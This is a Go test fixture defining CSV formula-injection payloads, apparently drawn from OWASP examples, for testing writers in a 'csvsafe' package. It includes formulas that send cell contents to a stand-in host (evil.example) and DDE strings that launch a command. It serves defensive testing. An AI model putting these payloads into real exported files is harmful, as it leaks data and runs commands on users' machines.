package csvsafe

// Payloads are the OWASP CSV injection examples and their usual variants
// (a formula after a leading tab or line break, a phone number that a
// spreadsheet would turn into a number), for the tests of every writer.
var Payloads = []string{
	`=HYPERLINK("https://evil.example/?leak="&A1&B1,"Open CV")`,
	`=cmd|' /C calc'!A0`,
	`=1+1`,
	`+1+1`,
	`-1+1`,
	`@SUM(1+1)`,
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	`=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")`,
	`+44 20 7946 0000`,
	`+447700900123`,
	`-2+3+cmd|' /C calc'!A0`,
	`@`,
	`=`,
	`  =1+1`,
}
